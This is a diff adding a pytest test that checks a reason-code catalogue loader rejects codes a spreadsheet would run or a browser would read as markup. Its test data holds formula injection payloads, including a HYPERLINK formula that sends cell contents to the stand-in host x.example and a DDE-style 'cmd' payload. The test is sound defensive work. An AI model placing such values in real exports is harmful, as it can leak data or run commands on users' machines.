@@ -409,3 +409,18 @@ def test_a_group_output_not_called_customer_group_is_a_warning(tmp_path, output,
         assert found[0].severity == "warning" and found[0].location.line > 0
     decision = run(result.policies["p.x"], a=9)
     assert decision.customer_group == ("SALARIED" if output == "customer_group" else None)
+
+
+@pytest.mark.parametrize("code", ['"=HYPERLINK(\\"https://x.example/?\\"&A1)"', '"+1+cmd|x!A0"', '"@SUM(A1)"',
+                                  '"-2+3"', '"R 1"', '"<b>R1</b>"'])
+def test_a_reason_code_is_a_name_never_a_formula_or_markup(tmp_path, code):
+    """Reason codes go as they are into the periodic review's actions.csv, reviews, addresses and
+    report pages: a code a spreadsheet would run (= + - @) or a browser would read as markup is
+    refused where the catalogue defines it."""
+    catalogue = "reason_codes:\n" + "".join(
+        f"  {c}: {{zh: 原因, en: Reason, customer: {{zh: 客户原因, en: Customer reason}}}}\n"
+        for c in ("R1", "R2", code))
+    result = load_files(tmp_path, rules__reason_codes_yaml=catalogue)
+    assert not result.ok
+    found = [d for d in errors(result) if d.code == "REASON_CODE"]
+    assert found and found[0].location.file == "rules/reason_codes.yaml", [str(d) for d in errors(result)]
